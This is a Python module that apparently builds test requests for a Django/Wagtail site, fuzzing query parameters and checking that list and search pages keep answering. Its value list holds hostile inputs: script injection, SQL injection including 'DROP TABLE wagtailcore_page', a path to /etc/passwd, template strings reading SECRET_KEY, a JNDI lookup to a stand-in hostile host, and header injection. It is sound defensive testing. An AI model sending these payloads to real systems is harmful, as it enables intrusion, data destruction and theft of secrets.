"""What stands behind the ``?`` of a page that reads it: whatever it is, the page is there."""

from collections.abc import Iterator
from urllib.parse import quote

from ..row import CANARY, IN_ATTRIBUTE, SCRIPT, Row
from .pages import LISTS, PAGES

THERE = 200

NUMBERS = (
    "0",
    "-1",
    "99999999999999999999",
    "2147483648",
    "9223372036854775808",
    "1e9",
    "0x10",
    "1.5",
    "NaN",
    "Infinity",
    "٣",
    "１",
    "²",
    "%00",
    "1%00",
    "%0d%0a1",
    "+1",
    "1 ",
    "last",
    "-",
    "9" * 3_000,
)
NAMES = (
    "q",
    "country",
    "region",
    "objective",
    "way",
    "theme",
    "area",
    "status",
    "sdg",
    "year",
    "group",
    "sort",
    "kind",
)
VALUES = (
    (SCRIPT, "a script"),
    (IN_ATTRIBUTE, "an attribute's end"),
    (f"javascript:{CANARY}()", "an address that is a script"),
    (f"//{CANARY}.example", "another host"),
    ("' OR 1=1 --", "SQL"),
    ("1); DROP TABLE wagtailcore_page; --", "more SQL"),
    ("%' AND pg_sleep(9) --", "SQL that waits"),
    ("\x00", "a null byte"),
    ("a\x00b", "a null byte in a word"),
    ("../../../etc/passwd", "a path"),
    ("{{ settings.SECRET_KEY }}", "a template's brackets"),
    ("{% debug %}", "a template's tag"),
    ("[[requests]]", "an editor's figure"),
    ("${jndi:ldap://hostile9.example/a}", "a logger's brackets"),
    ("\u202e" + "lmth.exe", "a character that turns the text"),
    ("\u2066a\u2069", "marks of direction"),
    ("раура1.example", "letters that look like others (Cyrillic)"),
    ("ﬀ" * 50, "ligatures"),
    ("e" + "\u0301" * 500, "500 accents on a letter"),
    ("\u0000\u0001\u001f\u007f", "control characters"),
    ("a\r\nX-Hostile9: 1", "a line of a header"),
    ("a\u2028b", "a separator of lines"),
    ("\ufeff", "a mark of the byte order"),
    ("😀" * 300, "300 faces"),
    ("(" * 500, "500 brackets"),
    ('"' * 500, "500 quotation marks"),
    ("a " * 1_000, "1,000 words"),
    ("x" * 4_000, "a word of 4,000 letters"),
    ("*" * 100, "asterisks"),
    ("a:*b & | ! <-> c", "operators of a full-text search"),
)
NOT_UTF8 = ("%ff%fe", "%c3", "%ed%a0%80", "%c0%af", "%u0041", "%", "%zz", "a%", "%f4%90%80%80")


def rows() -> Iterator[Row]:
    for page in LISTS:
        for number in NUMBERS:
            yield Row("a sheet that is none", f"{page}?page={quote(number, safe='%')}", THERE)
    for page in LISTS:
        for place, (value, why) in enumerate(VALUES):
            name = NAMES[place % len(NAMES)] if page != "/en/search/" else "q"
            yield Row(f"{why} as {name}", f"{page}?{name}={quote(value, safe='')}", THERE)
            if name != "q":
                yield Row(f"{why} as q", f"{page}?q={quote(value, safe='')}", THERE)
    for page in LISTS[:4]:
        for value in NOT_UTF8:
            yield Row("no UTF-8", f"{page}?q={value}&country={value}", THERE)
    for page in LISTS:
        for name in ("country", "status", "page", "q", "sort"):
            many = "&".join(f"{name}={value}" for value in ("ml", "ne", "zz", "2", "")) * 3
            yield Row(f"{name}, again and again", f"{page}?{many}", THERE)
        yield Row("900 parameters that mean nothing", f"{page}?{'&'.join(['a='] * 900)}", THERE)
        yield Row("500 countries", f"{page}?{'&'.join(['country=ml'] * 300)}", THERE)
        yield Row("1,500 parameters: more than Django reads", f"{page}?{'&'.join(['a'] * 1_500)}", 400)
        yield Row("3,900 ampersands: parameters, to Django", f"{page}?{'&' * 3_900}", 400)
        yield Row("names in brackets", f"{page}?country[]=ml&country[$ne]=x&page[]=2&q[a][b]=c", THERE)
        yield Row("a query of nothing but signs", f"{page}?=&=&==&?&??&#", THERE)
        yield Row("a name that is a script", f"{page}?{quote(SCRIPT)}={quote(SCRIPT)}", THERE)
        yield Row("a null byte in a name", f"{page}?%00=1&pa%00ge=2", THERE)
        yield Row("semicolons in the place of ampersands", f"{page}?country=ml;country=ne;page=2", THERE)
        yield Row("names of Python's", f"{page}?__class__=1&self=1&request=1&_state=1", THERE)
    for page in PAGES:
        yield Row(
            "parameters that mean nothing here", f"{page}?next=//{CANARY}.example&utm_source=x&debug=1", THERE
        )
        yield Row(
            "another host to go on to",
            f"{page}?redirect=https://{CANARY}.example&url=//{CANARY}.example",
            THERE,
        )
        yield Row("a language in a parameter", f"{page}?language=de&lang=xx&hl=zz&set_language=%00", THERE)
    yield Row(
        "questions of the check, each twice and wrong",
        "/en/request/check/?country=zz&country=&kind=x&topic=y&partners=z&kind=company",
        THERE,
    )
    yield Row("a language switch to a foreign host", f"/en/i18n/setlang/?next=//{CANARY}.example", 404)
    yield Row("the root, sent on to a foreign host", f"/?next=//{CANARY}.example", 302)
